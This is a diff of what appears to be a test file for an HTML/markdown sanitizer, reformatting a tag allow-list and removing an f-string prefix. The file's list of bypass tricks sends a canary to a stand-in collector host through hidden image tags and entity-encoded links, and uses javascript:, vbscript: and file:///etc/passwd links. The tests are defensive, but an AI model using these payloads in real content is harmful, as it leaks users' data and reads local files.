@@ -16,9 +16,10 @@ from workflows.view import details
 _ELSEWHERE = "http://collector.example/?d=CANARY"
 _READ = "https://read.example/page?a=1&b=2"
 _HARMLESS = {
-    "html", "head", "meta", "title", "style", "body", "main", "header", "section", "footer", "h1", "h2", "h3", "h4", "h5",
-    "h6", "p", "br", "hr", "pre", "code", "em", "del", "ul", "ol", "li", "div", "span", "table", "thead", "tbody", "tfoot",
-    "tr", "th", "td", "strong", "a", "blockquote", "details", "summary", "svg", "g", "rect", "path", "line", "text",
+    "html", "head", "meta", "title", "style", "body", "main", "header", "section", "footer", "h1", "h2", "h3", "h4",
+    "h5", "h6", "p", "br", "hr", "pre", "code", "em", "del", "ul", "ol", "li", "div", "span", "table", "thead", "tbody",
+    "tfoot", "tr", "th", "td", "strong", "a", "blockquote", "details", "summary", "svg", "g", "rect", "path", "line",
+    "text",
 }  # fmt: skip
 _ATTRIBUTES = {"href", "rel", "class", "id", "start", "style", "lang", "charset", "name", "content", "http-equiv"}
 _DRAWN = {"viewbox", "width", "height", "x", "y", "x1", "y1", "x2", "y2", "d", "rx", "role", "aria-label", "font-size",
@@ -46,7 +47,7 @@ _TRICKS = [
     f"<!-- {_ELSEWHERE} --><![CDATA[<img src={_ELSEWHERE}>]]>",
     f"<\nimg src={_ELSEWHERE}>",
     f"&#60;img src={_ELSEWHERE}&#62;",
-    f"[x](&#104;ttp://collector.example/)",
+    "[x](&#104;ttp://collector.example/)",
     "[x](//collector.example/)",
     "[x](mailto:a@collector.example?body=CANARY)",
     "[x](vbscript:1) [y](JaVaScRiPt:1) [z](file:///etc/passwd)",
